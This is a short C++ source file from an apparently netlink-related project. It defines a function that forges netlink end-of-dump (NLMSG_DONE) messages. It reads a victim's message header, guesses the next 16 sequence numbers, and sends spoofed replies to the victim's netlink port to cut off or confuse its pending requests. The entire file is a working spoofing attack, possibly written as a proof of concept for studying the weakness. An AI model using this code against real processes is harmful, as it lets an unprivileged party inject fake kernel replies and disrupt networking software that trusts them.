#include "gmnl/forged_end.h"

#include <cstdint>
#include <iostream>

#include <linux/netlink.h>
#include <unistd.h>

#include "gmnl/bytes.h"
#include "gmnl/error.h"
#include "gmnl/socket.h"

namespace gmnl {
namespace {

// The sequence number that the other process waits for is not known, but it is one of the next 16.
constexpr uint32_t requests = 16;

struct End {
    nlmsghdr header;
    int32_t error;
};

} // namespace

int forged_end() {
    nlmsghdr first{};
    if (read(STDIN_FILENO, &first, sizeof(first)) != static_cast<ssize_t>(sizeof(first)))
        fail("read");
    Bytes bytes;
    for (uint32_t i = 1; i <= requests; ++i) {
        const End end{{sizeof(End), NLMSG_DONE, NLM_F_MULTI, first.nlmsg_seq + i, first.nlmsg_pid},
                      0};
        const auto* data = reinterpret_cast<const uint8_t*>(&end);
        bytes.insert(bytes.end(), data, data + sizeof(end));
    }
    Socket().send_to(first.nlmsg_pid, bytes);
    std::cout << "# the end of requests " << first.nlmsg_seq + 1 << " to "
              << first.nlmsg_seq + requests << " was sent to port " << first.nlmsg_pid << std::endl;
    return 0;
}

} // namespace gmnl
